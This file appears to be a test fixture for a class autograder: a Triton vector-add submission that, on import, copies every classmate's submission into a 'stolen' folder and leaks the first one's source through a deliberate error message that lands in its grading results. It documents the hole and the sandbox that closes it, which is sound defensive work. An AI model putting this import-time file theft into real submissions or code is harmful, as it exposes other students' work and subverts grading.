"""Hostile submission, class batch (exercise 1): the thief.

A correct vector add that, at import, copies every other submission in its folder to a stash
beside the class folder (somewhere it can read later), and puts the first classmate's whole file
into its own output: one check raises an error whose message is that file, so the thief's
Gradescope results and the batch CSV show it. It loses one check and scores about 97/100.

Today every submission is graded in place, from the class folder, by a process that can read
(and write) everything the instructor can.
"""

import shutil
from pathlib import Path

import torch
import triton
import triton.language as tl

ATTACK = ("copies every classmate's file into a stash beside the class folder at import, and puts the first "
          "classmate's file into its own results through an error message; a correct kernel otherwise")
KIND = "batch"
WRONG_UNDERNEATH = False
#: What a static check of this file can name (empty: nothing it can see).
STATIC_FLAGS = ("shutil", "__file__ / pathlib outside the submission")
REJECTED_BY = ("the sandbox: each submission runs from its own temporary copy with no read access to the class "
               "folder, so there is nothing to copy; its kernel is graded as usual")
#: The class folder the batch runs on: this file and its classmates (paths in the repository).
CLASS = {"a_thief.py": None, "b_honest.py": "solutions/ex01_vector_add.py",
         "c_honest_wrong.py": "grader/exercises/ex01_vector_add/wrong/grid_one_block_short.py"}
#: What today's grader lets happen (checked by run_today.py).
TODAY = "steals"

_HERE = Path(__file__).resolve()
#: Where the copies go: beside the class folder, readable by the thief's next run or any other job.
STASH = _HERE.parent.parent / "stolen"


def _steal() -> str:
    STASH.mkdir(exist_ok=True)
    first = ""
    for path in sorted(_HERE.parent.glob("*.py")):
        if path == _HERE:
            continue
        shutil.copy(path, STASH / path.name)
        first = first or f"{path.name}: {path.read_text()!r}"
    return first


_STOLEN = _steal()


@triton.jit
def add_kernel(x_ptr, y_ptr, out_ptr, n_elements, BLOCK_SIZE: tl.constexpr):
    offsets = tl.program_id(0) * BLOCK_SIZE + tl.arange(0, BLOCK_SIZE)
    mask = offsets < n_elements
    total = tl.load(x_ptr + offsets, mask=mask).to(tl.float32) + tl.load(y_ptr + offsets, mask=mask).to(tl.float32)
    tl.store(out_ptr + offsets, total.to(out_ptr.dtype.element_ty), mask=mask)


def add(x, y):
    if x.numel() == 1 and x.dtype == torch.float32 and _STOLEN:
        # One check fails with the loot as its message: the grader copies it into the thief's results.
        raise RuntimeError(_STOLEN)
    out = torch.empty_like(x)
    n = out.numel()
    add_kernel[(triton.cdiv(n, 1024),)](x, y, out, n, BLOCK_SIZE=1024)
    return out
